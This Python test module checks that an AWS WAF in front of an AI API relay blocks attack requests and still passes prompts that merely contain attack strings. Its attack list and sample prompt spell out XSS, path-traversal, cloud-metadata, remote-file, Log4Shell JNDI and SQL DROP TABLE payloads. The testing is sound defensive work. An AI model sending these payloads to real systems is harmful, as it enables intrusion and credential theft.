"""What WAF refuses in front of the relay, and what it must let through. Costs two short responses.

The attacks are examples of AWS's own: docs.aws.amazon.com/waf/latest/developerguide/aws-managed-rule-groups-baseline.html
"""

from __future__ import annotations

from collections.abc import Iterator

import httpx

from clients.report import Finding, judged, skipped
from clients.signing import is_loopback
from clients.smoke.endpoint import CHAT, MODELS, Endpoint, error_code, short

# title -> path and query, headers
ATTACKS: dict[str, tuple[str, dict[str, str]]] = {
    "a script in the query": (f"{MODELS}?q=%3Cscript%3Ealert(1)%3C/script%3E", {}),
    "a path out of the folder in the query": (f"{MODELS}?file=../../../../etc/passwd", {}),
    "the metadata service in the query": (f"{MODELS}?u=http://169.254.169.254/latest/meta-data/", {}),
    "a remote file in the query": (f"{MODELS}?u=http://203.0.113.9/shell.txt", {}),
    "a system file in the path": ("/v1/server.log", {}),
    "an exploitable path": ("/v1/WEB-INF/web.xml", {}),
    "a JNDI look-up in a header": (MODELS, {"x-api-version": "${jndi:ldap://203.0.113.9/a}"}),
}
BAD_BOT = {"user-agent": "nessus"}
# Everything that the rules look for, where it has to be let through: in a prompt.
PROMPT = (
    "Answer with one word: is this text dangerous? <script>alert(1)</script> ../../../../etc/passwd "
    "http://169.254.169.254/latest/meta-data/ ${jndi:ldap://203.0.113.9/a} SELECT * FROM users; DROP TABLE users;\n"
)
WITHOUT_AGENT = {"user-agent": ""}
# One more than WAF's rule takes by the length that a request declares.
TOO_LARGE_BYTES = 10_000_000


def edge(at: Endpoint) -> Iterator[Finding]:
    """Behind an edge: attacks are refused, with a `User-Agent` and without one, and prompts are not."""
    if not at.is_behind_edge:
        yield skipped("WAF refuses attacks and no prompts", "the URL is the Function URL itself", "See --sign-host.")
        return
    if is_loopback(at.url):
        yield skipped("WAF refuses attacks and no prompts", "the edge on this machine has no WAF")
        return
    response = at.send(at.request(at.chat()))
    code = error_code(response)
    yield judged("WAF refuses what is not signed, in OpenAI's shape", code == "unsigned_request", short(response))
    yield from _attacks(at)
    yield from _too_large(at)
    yield from _prompts(at)


def _attacks(at: Endpoint) -> Iterator[Finding]:
    for agent, headers in (("", {}), (" without a User-Agent", WITHOUT_AGENT)):
        passed = {}
        for title, (path, more) in ATTACKS.items():
            response = at.send(at.request(b"", at.signer, path, method="GET", headers={**headers, **more}))
            if response.status_code != 403 or error_code(response) != "request_refused":
                passed[title] = short(response)
        yield judged(
            f"WAF refuses {len(ATTACKS)} attacks{agent}",
            not passed,
            "all with request_refused" if not passed else f"not refused: {passed}",
            "Deploy the edge again, and compare the web ACL with its template: docs/edge.md.",
            attacks=len(ATTACKS),
            passed=len(passed),
        )
    response = at.send(at.request(b"", at.signer, MODELS, method="GET", headers=BAD_BOT))
    yield judged("WAF refuses a known bad bot", error_code(response) == "request_refused", short(response))


def _too_large(at: Endpoint) -> Iterator[Finding]:
    """WAF judges by the header; the caller may hear of it while it is still sending."""
    promise = "WAF refuses a body of 10 MB with 413"
    try:
        response = at.send(at.request(b" " * TOO_LARGE_BYTES, at.signer, CHAT))
    except httpx.HTTPError as error:
        yield skipped(promise, f"the connection was closed while the body was sent: {type(error).__name__}")
        return
    yield judged(promise, response.status_code == 413, short(response))


def _prompts(at: Endpoint) -> Iterator[Finding]:
    for what, headers, content in (
        ("a prompt that looks like every attack", {}, PROMPT),
        ("such a prompt of 20 KB, without a User-Agent,", WITHOUT_AGENT, PROMPT * 90),
    ):
        response = at.send(at.request(at.chat(content), at.signer, headers=headers))
        yield judged(
            f"{what} is let through",
            response.status_code == 200,
            short(response),
            "A rule of the web ACL refuses by the body: compare it with its template (docs/edge.md).",
        )
